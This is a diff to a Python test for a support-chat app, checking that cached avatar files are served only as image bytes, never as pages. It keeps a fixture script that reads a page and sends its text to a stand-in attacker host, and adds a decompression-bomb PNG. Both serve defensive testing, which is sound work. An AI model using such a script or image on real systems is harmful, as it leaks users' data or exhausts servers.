@@ -19,6 +19,7 @@ from supportchat_app.components.inbox_list import picture_url
 from tests.conftest import create_user
 from tests.stackproc import StackProcess
 from tests.test_app_flows import another_user, app_data, engine_of, running_app, sign_in  # noqa: F401 (the fixture)
+from tests.test_images import png_declaring
 
 HTML = b"<!doctype html><script>fetch('/').then(r => r.text()).then(t => fetch('//evil.example', {body: t}))</script>"
 
@@ -56,9 +57,13 @@ async def test_a_cached_picture_is_served_by_its_bytes_never_as_a_page_and_only_
             page.write_bytes(HTML)
             disguised.write_bytes(HTML)
             real.write_bytes(png())
+            # a decompression bomb (review sec17b): 16000 x 16000 pixels declared, 1 GB for the page to decode; one
+            # cached before downloads were checked for it, or planted, is not served either
+            bomb = folder / "avatar-bomb.png"
+            bomb.write_bytes(png_declaring(16_000, 16_000))
             assert picture_url(None) == "" and picture_url(folder / "missing.png") == ""
 
-            for path in (page, disguised):
+            for path in (page, disguised, bomb):
                 url = picture_url(path)
                 assert url.startswith("/_sc/picture/") and str(app_data) not in url
                 answer = await user.http_client.get(url)
